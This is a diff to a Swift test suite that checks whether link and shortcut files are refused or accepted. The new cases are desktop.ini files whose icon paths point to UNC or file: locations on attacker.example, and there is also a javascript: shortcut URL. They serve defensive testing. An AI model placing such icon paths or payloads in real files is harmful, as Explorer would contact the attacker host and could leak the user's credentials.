@@ -64,6 +64,10 @@ struct LinkFileTests {
       ("two.url", SampleBytes.utf8("https://example.org/\nhttps://example.net/\n"), "it holds no URL"),
       ("words.url", SampleBytes.utf8("see the teams page\n"), "it holds no URL"),
       ("shortcut", shortcut("[InternetShortcut]", "URL=javascript:alert(1)"), "its URL uses the javascript: scheme"),
+      // Review 35: Explorer loads a folder's icon as it shows the folder.
+      ("desktop.ini", shortcut("[.ShellClassInfo]", #"IconResource=\\attacker.example\share\i.ico,0"#), "its IconResource is a UNC path"),
+      ("Desktop.INI", shortcut("[.ShellClassInfo]", #"IconFile="//attacker.example/share/i.ico""#), "its IconFile is a UNC path"),
+      ("desktop.ini", shortcut("[.ShellClassInfo]", "IconFile=file://attacker.example/i.ico"), "its IconFile is a file: URL"),
     ] as [(String, [UInt8], String)])
   func refused(name: String, bytes: [UInt8], words: String) throws {
     let verdict = try verdict(name, bytes)
@@ -93,10 +97,13 @@ struct LinkFileTests {
       ("teams.url", SampleBytes.utf8("https://i18n.kde.org/teams/index.shtml\n"), "com.microsoft.internet-shortcut"),
       // A .txt holding a shortcut is opened as text, as a text snippet of the same bytes is stored.
       ("notes.txt", shortcut("[InternetShortcut]", "URL=javascript:alert(1)"), "com.microsoft.internet-shortcut"),
+      // A folder's settings with its icon on this disk, and another name holding a UNC icon.
+      ("desktop.ini", shortcut("[.ShellClassInfo]", #"IconResource=C:\Windows\System32\imageres.dll,-3"#), ""),
+      ("settings.ini", shortcut("[.ShellClassInfo]", #"IconResource=\\attacker.example\share\i.ico,0"#), ""),
     ] as [(String, [UInt8], String)])
   func accepted(name: String, bytes: [UInt8], type: String) throws {
     let verdict = try verdict(name, bytes)
-    #expect(verdict.accepted && verdict.type == TypeIdentifier(type), "\(name): \(verdict.reason)")
+    #expect(verdict.accepted && (type.isEmpty || verdict.type == TypeIdentifier(type)), "\(name): \(verdict.reason)")
   }
 
   @Test("a binary property list web location is read too, and a link file longer than the head is refused")
